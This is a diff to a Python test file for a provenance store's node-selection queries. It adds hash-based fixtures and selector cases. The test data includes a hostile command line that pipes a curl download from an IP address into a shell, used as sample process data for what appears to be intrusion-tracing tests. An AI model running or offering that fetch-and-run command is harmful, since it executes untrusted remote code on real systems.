@@ -18,6 +18,7 @@ from tests.provenance.store.generated import text
 
 P, F, N = EntityKind.PROCESS, EntityKind.FILE, EntityKind.ENDPOINT
 SHELL = "bash -c curl 198.51.100.45|sh"
+ONE, TWO = "sha256:" + "ab" * 32, "sha1:" + "01" * 20
 NODES = [
     Entity(11, P, "web01", 5, {"pid": 100, "command": SHELL, "argv": SHELL.split(" ", 2)}),
     Entity(12, P, "web01", 3, {"pid": 101, "command": SHELL, "argv": SHELL.split(" ", 2)}),
@@ -35,6 +36,9 @@ NAMES = [
     Name(21, "/usr/bin/.hidden", 6, 9),
     Name(22, "/tmp/x", 1, 5),
     Name(23, "/var/[a]*\udcff", 1, 5),
+    Name(21, ONE, 2, 3),
+    Name(21, TWO, 4, 4),
+    Name(22, ONE, 9, 9),
 ]
 
 
@@ -77,6 +81,17 @@ def filled(store: Store) -> Store:
         (Selector(file="/TMP/*"), []),
         (Selector(file="/tmp/*", host="db01"), [22]),
         (Selector(file="/tmp/*", pid=100), []),
+        (Selector(hash=ONE), [21, 22]),
+        (Selector(hash=TWO), [21]),
+        (Selector(hash=ONE, host="db01"), [22]),
+        (Selector(hash=ONE, kinds=frozenset((P,))), []),
+        (Selector(hash=ONE, pid=100), []),
+        (Selector(hash=ONE, file="/tmp/s*"), [21]),
+        (Selector(hash=TWO, file="/tmp/x"), []),
+        (Selector(hash="sha256:" + "00" * 32), []),
+        (Selector(file=ONE), []),
+        (Selector(file="*abab*"), []),
+        (Selector(file="sha256:*"), []),
         (Selector(remote_ip="198.51.100.45"), [31, 32]),
         (Selector(remote_ip="198.51.100.45", remote_port=80), [32]),
         (Selector(remote_port=80), [32, 33]),
@@ -91,7 +106,7 @@ def test_finds_exactly(filled: Store, selector: Selector, expected: list[int]) -
 def test_gives_whole_nodes(filled: Store) -> None:
     (node,) = filled.find(Selector(file="*.sh"))
     assert (node.kind, node.host, node.first, node.attributes) == (F, "web01", 1, {"path": "/tmp/shell.sh"})
-    assert node.names == (NAMES[0], NAMES[1])
+    assert node.names == (NAMES[0], NAMES[4], NAMES[5], NAMES[1])
 
 
 @pytest.mark.parametrize(("pattern", "place"), [("bash (-c", 5), ("[z-a]", 1), ("a{2,1}", 2), ("*", 0)])
